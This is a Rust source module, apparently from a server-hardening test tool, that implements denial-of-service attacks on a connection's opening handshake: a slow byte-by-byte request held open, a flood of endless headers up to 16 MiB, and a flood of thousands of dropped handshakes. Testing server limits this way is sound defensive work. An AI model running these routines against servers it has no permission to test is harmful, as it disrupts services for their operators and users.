//! Attacks on the opening handshake.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::sleep;

use super::connection::{Attacker, Heard, Reads, Written};

/// How many connections are open at a time in the slow handshake.
const SLOW: usize = 50;

/// How long a slow client waits after each byte.
const SLOWLY: Duration = Duration::from_millis(50);

/// How many connections send headers at a time.
const FLOODING: usize = 8;

/// The longest head that is sent. A server may take much less.
const HEAD: u64 = 16 << 20;

/// How many clients come at a time in the flood of handshakes, and how many come at all.
const COMING: usize = 16;
const MOST: u64 = 5_000;

/// Many connections, each with a request of which a byte comes now and then.
pub(super) async fn slow_handshake(attacker: Attacker) {
    in_parallel(SLOW, attacker, |attacker: Attacker| async move {
        let mut request = attacker.setting.target.request().encode();
        // Without the empty line, the request has no end.
        request.truncate(request.len().saturating_sub(2));
        request.extend(b"X-Slow: ");
        let Some(mut connection) = attacker.dial().await else { return };
        let bytes = request.into_iter().chain(std::iter::repeat(b'a'));
        for byte in bytes {
            if !attacker.effort.goes_on() || connection.send(&[byte], Reads::Everything).await != Written::All
            {
                return;
            }
            sleep(SLOWLY).await;
        }
    })
    .await;
}

/// Requests with headers that do not end.
pub(super) async fn header_flood(attacker: Attacker) {
    let most = attacker.setting.attack.bytes.div_ceil(FLOODING as u64 * 2).min(HEAD);
    in_parallel(FLOODING, attacker, move |attacker: Attacker| async move {
        let mut request = attacker.setting.target.request().encode();
        request.truncate(request.len().saturating_sub(2));
        let headers: Vec<u8> = (0..500)
            .flat_map(|number| format!("X-Flood-{number}: {}\r\n", "a".repeat(100)).into_bytes())
            .collect();
        while attacker.effort.goes_on() {
            let Some(mut connection) = attacker.dial().await else { continue };
            let mut sent = connection.send(&request, Reads::Everything).await;
            while sent == Written::All && connection.sent < most && attacker.effort.goes_on() {
                sent = connection.send(&headers, Reads::Everything).await;
            }
            if connection.sent >= most
                && connection.hear(|skimmer| skimmer.answer.is_some()).await == Heard::Nothing
            {
                attacker.effort.note_taken(format!("it took a head of {most} bytes without an answer"));
            }
        }
    })
    .await;
}

/// One connection after another, each dropped after its opening handshake.
pub(super) async fn handshake_flood(attacker: Attacker) {
    in_parallel(COMING, attacker, |attacker: Attacker| async move {
        while attacker.effort.goes_on() && attacker.effort.connections() < MOST {
            let _dropped = attacker.open(None).await;
        }
    })
    .await;
}

/// Does the same on several connections at a time.
pub(super) async fn in_parallel<F>(count: usize, attacker: Attacker, work: impl Fn(Attacker) -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    let mut workers = JoinSet::new();
    for _worker in 0..count {
        workers.spawn(work(attacker.clone()));
    }
    while workers.join_next().await.is_some() {}
}
